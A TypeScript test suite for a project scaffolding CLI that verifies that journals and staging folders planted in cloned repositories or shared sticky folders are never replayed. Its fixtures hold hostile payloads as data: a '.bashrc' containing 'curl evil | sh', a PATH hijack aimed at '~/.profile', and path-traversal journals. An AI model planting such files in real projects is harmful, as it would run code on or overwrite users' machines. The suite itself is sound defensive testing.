/**
 * What a run finds in a folder is not its own: commit journals, staging
 * folders and locks planted in a cloned repository, a workspace or a shared
 * sticky folder are never replayed, never deleted, and never make it write
 * outside the project. A run completes only what this user's own killed run
 * left, recorded in a private folder of this user's.
 */
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { execa } from 'execa';
import { afterAll, describe, expect, it } from 'vitest';
import { runCli, scratch } from './support/cli.js';

const work = scratch('cf-trust-journals-');
chmodSync(work.dir, 0o755); // the unprivileged runs below must reach their folders
afterAll(() => work.cleanup());
let count = 0;
const fresh = (name = 'case') => {
  const dir = join(work.dir, `${name}-${(count += 1)}`);
  mkdirSync(dir, { mode: 0o755 });
  return dir;
};

const dead = 2 ** 22 + 11; // above pid_max's default: never a live process
const isRoot = process.getuid?.() === 0;

/** A home folder with the files an attacker would aim at. */
function makeHome(): string {
  const home = fresh('home');
  writeFileSync(join(home, '.bashrc'), '# mine\n');
  writeFileSync(join(home, '.profile'), '# my profile\n');
  mkdirSync(join(home, 'important'));
  writeFileSync(join(home, 'important', 'thesis.tex'), 'years of work\n');
  return home;
}

/** A git repository as an attacker publishes it, cloned into `into`. */
async function cloneOf(files: Record<string, string>, into: string): Promise<string> {
  const origin = fresh('origin');
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(origin, path, '..'), { recursive: true });
    writeFileSync(join(origin, path), text);
  }
  const git = (args: string[], cwd: string) => execa('git', ['-c', 'user.name=a', '-c', 'user.email=a@b', ...args], { cwd });
  await git(['init', '-q'], origin);
  await git(['add', '-A'], origin);
  await git(['commit', '-q', '-m', 'planted'], origin);
  await git(['clone', '-q', origin, into], work.dir);
  return into;
}

const untouchedHome = (home: string) => {
  expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('# mine\n');
  expect(readFileSync(join(home, '.profile'), 'utf8')).toBe('# my profile\n');
  expect(readFileSync(join(home, 'important', 'thesis.tex'), 'utf8')).toBe('years of work\n');
};

describe('a commit journal planted in a cloned repository', () => {
  it('is not replayed: ~/.bashrc keeps its text, the planted files stay and count as content', async () => {
    const home = makeHome();
    mkdirSync(join(home, 'src'));
    const name = `.create-freestanding-${dead}-deadbeef`;
    const clone = await cloneOf({
      [`${name}/new/.bashrc`]: 'curl evil | sh\n',
      [`${name}.journal`]: JSON.stringify({ mode: 'in-place', destination: '../..', staging: name, files: ['.bashrc'] }),
      [`.create-freestanding-${dead}-0badf00d.toml`]: '',
    }, join(home, 'src', 'clone'));
    const result = await runCli(['.', '-y', '-t', 'linux'], { cwd: clone, env: { HOME: home } });
    untouchedHome(home);
    // The planted files are the repository's: a run writing in place sees a non-empty folder.
    expect(result.exitCode, result.stderr).toBe(1);
    expect(result.stderr).toMatch(/is not empty/);
    expect(existsSync(join(clone, `${name}.journal`))).toBe(true);
    expect(readFileSync(join(clone, name, 'new', '.bashrc'), 'utf8')).toBe('curl evil | sh\n');
    // Allowed to write there, it still replays nothing and deletes nothing it did not make.
    const forced = await runCli(['.', '-y', '-t', 'linux', '--force'], { cwd: clone, env: { HOME: home } });
    expect(forced.exitCode, forced.stderr).toBe(0);
    untouchedHome(home);
    expect(existsSync(join(clone, `${name}.journal`))).toBe(true);
    expect(existsSync(join(clone, `.create-freestanding-${dead}-0badf00d.toml`))).toBe(true);
    expect(readFileSync(join(clone, 'Cargo.toml'), 'utf8')).toContain('name = "clone"');
  });

  it('cannot delete a folder outside on a run that is refused', async () => {
    const home = makeHome();
    mkdirSync(join(home, 'src'));
    const name = `.create-freestanding-${dead}-cafebabe`;
    const clone = await cloneOf({
      'README.md': 'a project\n',
      [`${name}.journal`]: JSON.stringify({ mode: 'in-place', destination: '.', staging: '../../important', files: [] }),
    }, join(home, 'src', 'refused'));
    const result = await runCli(['.', '-y', '-t', 'linux'], { cwd: clone, env: { HOME: home } });
    expect(result.exitCode, result.stderr).toBe(1);
    expect(result.stderr).toMatch(/is not empty/);
    untouchedHome(home);
    expect(readFileSync(join(clone, 'README.md'), 'utf8')).toBe('a project\n');
    expect(existsSync(join(clone, `${name}.journal`))).toBe(true);
  });

  it('in a cloned workspace cannot replace ~/.profile through a manifest entry', async () => {
    const home = makeHome();
    const name = `.create-freestanding-${dead}-feedface`;
    const root = await cloneOf({
      'Cargo.toml': '[workspace]\nmembers = []\n',
      [`${name}.toml`]: 'export PATH=/evil:$PATH\n',
      [`${name}.journal`]: JSON.stringify({
        mode: 'new', destination: 'gone', staging: 'nowhere', files: [],
        manifest: { path: join(home, '.profile'), temporary: `${name}.toml`, member: 'x' },
      }),
    }, join(home, 'ws'));
    const result = await runCli([join(root, 'crates', 'kernel'), '-y', '-t', 'linux'], { env: { HOME: home } });
    expect(result.exitCode, result.stderr).toBe(0);
    untouchedHome(home);
    expect(readFileSync(join(root, `${name}.toml`), 'utf8')).toBe('export PATH=/evil:$PATH\n');
    expect(readFileSync(join(root, 'Cargo.toml'), 'utf8')).toContain('"crates/kernel"');
  });
});

describe('a journal planted by another user in a shared sticky folder', () => {
  it.skipIf(!isRoot)('does not let nobody replace root\'s file when root scaffolds there', async () => {
    const shared = fresh('sticky');
    chmodSync(shared, 0o1777);
    writeFileSync(join(shared, 'victim.conf'), 'root owns this\n', { mode: 0o644 });
    // nobody plants a staging folder holding a replacement and a journal naming root's file.
    const plant = `
      const fs = require('node:fs'); const path = require('node:path');
      const dir = ${JSON.stringify(shared)}; const name = '.create-freestanding-${dead}-abad1dea';
      fs.mkdirSync(path.join(dir, name, 'new'), { recursive: true });
      fs.writeFileSync(path.join(dir, name, 'new', 'victim.conf'), 'nobody was here\\n');
      fs.writeFileSync(path.join(dir, name + '.journal'), JSON.stringify({ mode: 'in-place', destination: dir, staging: path.join(dir, name), files: ['victim.conf'] }));
    `;
    const planted = await execa('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', 'node', '-e', plant], { reject: false });
    expect(planted.exitCode, planted.stderr).toBe(0);
    const result = await runCli([join(shared, 'proj'), '-y', '-t', 'linux']);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(readFileSync(join(shared, 'victim.conf'), 'utf8')).toBe('root owns this\n');
    expect(statSync(join(shared, 'victim.conf')).uid).toBe(0);
    // nobody's files are nobody's: left where they are.
    expect(readdirSync(shared).sort()).toEqual([`.create-freestanding-${dead}-abad1dea`, `.create-freestanding-${dead}-abad1dea.journal`, 'proj', 'victim.conf']);
  });
});

describe('staging and journals of this user\'s own killed run', () => {
  it('are found only in a private folder of the user (0700, owned by them), never in the destination', async () => {
    const home = fresh('home');
    const parent = fresh();
    const result = await runCli([join(parent, 'proj'), '-y', '-t', 'linux'], { env: { HOME: home, XDG_STATE_HOME: '' } });
    expect(result.exitCode, result.stderr).toBe(0);
    const state = join(home, '.local', 'state', 'create-freestanding');
    const stats = statSync(state);
    expect(stats.mode & 0o777).toBe(0o700);
    expect(stats.uid).toBe(process.getuid?.());
    expect(readdirSync(parent)).toEqual(['proj']);
  });

  it('a state folder that is not private is refused with one line naming it', async () => {
    const home = fresh('home');
    const state = join(home, 'state');
    mkdirSync(join(state, 'create-freestanding'), { recursive: true, mode: 0o777 });
    chmodSync(join(state, 'create-freestanding'), 0o777);
    const result = await runCli([join(fresh(), 'proj'), '-y'], { env: { HOME: home, XDG_STATE_HOME: state } });
    expect(result.exitCode).toBe(1);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
    expect(result.stderr).toContain(join(state, 'create-freestanding'));
    expect(result.stderr).toMatch(/private|chmod 700/);
  });
});
